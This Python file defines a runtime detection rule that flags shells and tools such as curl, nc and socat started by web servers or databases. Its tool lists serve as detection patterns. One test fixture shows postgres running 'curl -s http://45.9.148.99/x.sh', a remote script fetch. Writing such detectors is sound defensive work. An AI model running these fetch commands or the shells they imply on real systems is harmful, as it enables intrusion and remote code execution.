"""A shell or a tool started by a web server, database or application server: the signature of remote code
execution through the service (a web shell, an injection, a deserialization exploit)."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish"})
#: What an intruder runs first through a compromised service, besides a shell.
TOOLS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "id", "whoami", "uname", "base64", "python",
                   "python3", "perl", "ruby", "nmap", "chmod", "useradd", "passwd", "hostname", "ifconfig", "ip"})
#: Servers that serve requests and do not run commands: web servers, databases, caches, brokers.
SERVERS = frozenset({
    "nginx", "httpd", "apache", "apache2", "lighttpd", "caddy", "traefik", "envoy", "haproxy", "php-fpm",
    "php-fpm7", "php-fpm8", "php-cgi", "uwsgi", "mysqld", "mariadbd", "postgres", "redis-server", "memcached",
    "mongod", "couchdb", "rabbitmq-server", "beam.smp", "consul", "fluentd", "elasticsearch", "tomcat",
})
#: Maintenance commands servers are known to run (logrotate hooks, postgres archive commands).
EXPECTED_COMMANDS = ("wal-g", "wal-e", "pgbackrest", "nginx -s reload", "kill -0", "healthcheck")


def server_parent(event: Event) -> str:
    """The server that started the process: its parent, or its grandparent when the parent is a shell."""
    parent = event.actor.parent_exe.rpartition("/")[2]
    if parent.startswith("php-fpm"):
        return parent
    if parent in SERVERS:
        return parent
    grandparent = event.actor.grandparent_exe.rpartition("/")[2]
    return grandparent if parent in SHELLS and grandparent in SERVERS else ""


def spawned_by_server(event: Event) -> bool:
    program = program_name(event)
    if (program not in SHELLS and program not in TOOLS) or program in SERVERS:
        return False
    if not server_parent(event):
        return False
    command = " ".join(event.actor.args)
    return not any(expected in command for expected in EXPECTED_COMMANDS)


def spawn_context(event: Event) -> dict[str, Any]:
    in_container = bool(event.container.id or event.k8s.container_id)
    return {"exe": event.actor.exe, "program": program_name(event), "server": server_parent(event),
            "command": " ".join(event.actor.args), "parent_command": " ".join(event.actor.parent_args),
            "where": container_label(event) if in_container else f"node {event.node}", "node": event.node}


DETECTION = EventDetection(
    id="runtime.shell_spawned_by_server",
    title="Shell or tool spawned by a server process",
    alert_title="{server} spawned {program} in {where}",
    description=(
        "A web server (nginx, Apache, PHP-FPM, uWSGI, Tomcat), database (MySQL, PostgreSQL, MongoDB, Redis) or "
        "other server process started a shell, or a reconnaissance or download tool (id, whoami, curl, nc, "
        "python), directly or through a shell. Servers answer requests; a shell under one is a web shell, SQL or "
        "command injection, or an exploited deserialization bug running the attacker's commands."
    ),
    severity="high",
    mitre=["T1505.003", "T1190", "T1059.004"],
    tags=["runtime", "execution", "initial_access", "persistence"],
    references=["https://attack.mitre.org/techniques/T1505/003/", "https://attack.mitre.org/techniques/T1190/"],
    false_positives=["Applications that shell out by design (CGI scripts, ImageMagick calls from PHP)."],
    kinds=["process.exec"],
    exe_names=SHELLS | TOOLS,
    match=spawned_by_server,
    context=spawn_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{server}/{program}",
    examples=[
        Example(
            name="php-fpm running sh -c id (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/bin/sh", arguments="-c id", parent="/usr/sbin/php-fpm8.2"),
        ),
        Example(
            name="Falco: postgres starting curl through a shell",
            source="falco",
            fires=True,
            record=falco_record(
                "DB program spawned process", "execve",
                {"proc.exepath": "/usr/bin/curl", "proc.name": "curl",
                 "proc.cmdline": "curl -s http://45.9.148.99/x.sh", "proc.pexepath": "/bin/sh", "proc.pname": "sh",
                 "proc.aname[2]": "postgres"},
                priority="Notice",
            ),
        ),
        Example(
            name="postgres running its WAL archive command",
            source="falco",
            fires=False,
            record=falco_record(
                "DB program spawned process", "execve",
                {"proc.exepath": "/bin/sh", "proc.name": "sh", "proc.cmdline": "sh -c wal-g wal-push pg_wal/0001",
                 "proc.pexepath": "/usr/lib/postgresql/16/bin/postgres", "proc.pname": "postgres"},
                priority="Notice",
            ),
        ),
        Example(
            name="a shell started by the container runtime",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/bin/sh", arguments="-c gunicorn app:app"),
        ),
    ],
)
